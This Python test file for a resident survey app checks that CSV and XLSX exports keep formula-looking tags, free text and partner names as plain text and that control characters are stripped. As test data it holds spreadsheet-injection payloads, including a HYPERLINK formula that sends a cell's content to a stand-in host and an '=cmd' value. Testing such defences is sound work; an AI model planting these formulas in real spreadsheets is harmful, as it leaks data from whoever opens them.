"""Spreadsheets hold what residents and partners typed as text, never as a formula, and a stray
control character in a channel link can neither be stored nor stop an export being written."""

from __future__ import annotations

import csv
import re
from pathlib import Path
from typing import Any

from flask import Flask
from openpyxl import load_workbook
from sqlalchemy import select

from survey_app.extensions import db
from survey_app.models import Response

from ..helpers import FULL_ANSWERS, complete_survey, run_jobs, stored_responses
from .staff_factories import ANALYST_EMAIL, make_user, sign_in

# Each would run in a spreadsheet program were it written as a formula (or, in a CSV, typed).
HYPERLINK = '=HYPERLINK("http://x.invalid/?"&A1,"z")'
FORMULA_TAGS = {"utm_source": HYPERLINK, "utm_medium": "+1+1", "utm_campaign": "@SUM(1)"}
FORMULA_TEXT = {"anything_else": "-5", "sexual_orientation_other": "=1+1"}
FORMULA_ANSWERS = {
    **FULL_ANSWERS,
    "anything-else": {"anything_else": FORMULA_TEXT["anything_else"]},
    "sexual-orientation": {
        "sexual_orientation": "other",
        "sexual_orientation_other": FORMULA_TEXT["sexual_orientation_other"],
    },
}
FORMULA_VALUES = {**FORMULA_TAGS, **FORMULA_TEXT}


def _formula_resident_and_a_declined_age(app: Flask, client: Any) -> None:
    client.get("/s/age-uk", query_string=FORMULA_TAGS)
    complete_survey(client, FORMULA_ANSWERS)
    declined = app.test_client()
    declined.get("/s/age-uk")
    complete_survey(declined, {**FULL_ANSWERS, "age": {"age": "", "age_declined": "y"}})


def _export(runner: Any, out: Path, *, free_text: bool = True) -> None:
    fmt = out.suffix.removeprefix(".")
    args = ["export", "--format", fmt, "--out", str(out)]
    result = runner.invoke(args=args + (["--include-free-text"] if free_text else []))
    assert result.exit_code == 0, result.output
    assert result.exception is None, repr(result.exception)


def _xlsx_records(path: Path) -> list[dict[str, Any]]:
    """Each response's cells by column name (the cells themselves, to see their type)."""
    sheet = load_workbook(path)["Responses"]
    header, *rows = sheet.iter_rows()
    return [{h.value: cell for h, cell in zip(header, row, strict=True)} for row in rows]


def _csv_records(path: Path) -> list[dict[str, str]]:
    with path.open(newline="", encoding="utf-8") as handle:
        return list(csv.DictReader(handle))


def test_formula_looking_tags_and_free_text_are_text_in_the_xlsx_export(
    app, client, runner, tmp_path
):
    _formula_resident_and_a_declined_age(app, client)
    out = tmp_path / "responses.xlsx"
    _export(runner, out)

    formula_row, declined_row = _xlsx_records(out)
    for column, value in FORMULA_VALUES.items():
        cell = formula_row[column]
        assert (cell.data_type, cell.value) == ("s", value), column
    # Numbers stay numbers, a negative code included.
    assert formula_row["age"].value == 34 and formula_row["age"].data_type == "n"
    assert declined_row["age"].value == -1 and declined_row["age"].data_type == "n"
    assert formula_row["safe_after_dark"].value == 2
    assert formula_row["respondent"].value == 1


def test_formula_looking_tags_and_free_text_are_quoted_in_the_csv_export(
    app, client, runner, tmp_path
):
    _formula_resident_and_a_declined_age(app, client)
    out = tmp_path / "responses.csv"
    _export(runner, out)

    formula_row, declined_row = _csv_records(out)
    for column, value in FORMULA_VALUES.items():
        assert formula_row[column] == f"'{value}", column
    assert formula_row["age"] == "34" and declined_row["age"] == "-1"
    assert formula_row["channel"] == "age-uk"


def test_text_starting_with_a_tab_or_carriage_return_is_quoted_in_the_csv_export(
    app, client, runner, tmp_path
):
    client.get("/s/age-uk")
    complete_survey(client)
    with app.app_context():
        # Stored directly: the door strips a tag's outer whitespace, older rows may not have.
        response = db.session.scalars(select(Response)).one()
        response.utm_source, response.utm_medium = "\t=1+1", "\r=1+1"
        db.session.commit()
    out = tmp_path / "responses.csv"
    _export(runner, out, free_text=False)

    (row,) = _csv_records(out)
    assert (row["utm_source"], row["utm_medium"]) == ("'\t=1+1", "'\r=1+1")


def test_control_characters_in_a_channel_link_are_not_stored(app, client):
    client.get("/s/age-uk", query_string={"utm_source": "a\x01b", "utm_medium": "\x7f\x02"})
    complete_survey(client)
    other = app.test_client()
    other.get("/s/no-such%01channel")
    complete_survey(other)

    tagged, unknown = stored_responses(app)
    assert (tagged.utm_source, tagged.utm_medium) == ("ab", None)
    assert tagged.channel is not None and tagged.channel.slug == "age-uk"
    assert unknown.unknown_channel_slug == "no-suchchannel"


def _store_control_characters(app: Flask) -> None:
    with app.app_context():
        # Straight into the database, as rows stored before the door was mended would be.
        response = db.session.scalars(select(Response)).one()
        response.utm_source = "a\x01b"
        response.utm_campaign = "\x0b=1+1"
        response.answers = {**response.answers, "anything_else": "lights\x02 please"}
        db.session.commit()


def test_stored_control_characters_do_not_break_the_exports(app, client, runner, tmp_path):
    client.get("/s/age-uk")
    complete_survey(client)
    _store_control_characters(app)

    xlsx = tmp_path / "responses.xlsx"
    _export(runner, xlsx)
    (row,) = _xlsx_records(xlsx)
    assert row["utm_source"].value == "ab" and row["anything_else"].value == "lights please"
    # With the control character gone the value starts with "=": still text.
    assert (row["utm_campaign"].data_type, row["utm_campaign"].value) == ("s", "=1+1")

    csv_out = tmp_path / "responses.csv"
    _export(runner, csv_out)
    (csv_row,) = _csv_records(csv_out)
    assert (csv_row["utm_source"], csv_row["utm_campaign"]) == ("ab", "'=1+1")


def test_stored_control_characters_do_not_break_the_export_page(app, client, tmp_path):
    client.get("/s/age-uk")
    complete_survey(client)
    _store_control_characters(app)
    make_user(app, ANALYST_EMAIL, "analyst")
    analyst = app.test_client()
    sign_in(analyst, ANALYST_EMAIL)

    analyst.get("/admin/reports")
    response = analyst.submit("/admin/exports/generate", {"export_format": "xlsx"})

    assert response.status_code == 302 and run_jobs(app) == 1
    page = analyst.get(response.headers["Location"]).get_data(as_text=True)
    (name,) = re.findall(r'/admin/reports/files/([^"]+\.xlsx)"', page)
    written = tmp_path / name
    written.write_bytes(analyst.get(f"/admin/reports/files/{name}").get_data())
    (row,) = _xlsx_records(written)
    assert row["utm_source"].value == "ab"


def test_channel_and_partner_names_are_text_in_the_report_workbook(app, client, runner, tmp_path):
    added = runner.invoke(args=["channels", "add", "sums", "--partner", "=cmd", "--name", "=1+1"])
    assert added.exit_code == 0, added.output
    client.get("/s/sums")
    complete_survey(client)
    result = runner.invoke(args=["report", "interim", "--out", str(tmp_path), "--format", "xlsx"])
    assert result.exit_code == 0, result.output

    (path,) = tmp_path.glob("*.xlsx")
    workbook = load_workbook(path)
    cells = [cell for sheet in workbook for row in sheet.iter_rows() for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    channels = workbook["Channels"]
    header = [cell.value for cell in channels[1]]
    names = {row[header.index("Channel")].value: row for row in channels.iter_rows(min_row=2)}
    sums = names["=1+1"]
    assert [(c.data_type, c.value) for c in sums[:2]] == [("s", "=1+1"), ("s", "=cmd")]
    # Counts are still numbers.
    untagged = names["No channel link"][header.index("Responses")]
    assert (untagged.data_type, untagged.value) == ("n", 0)
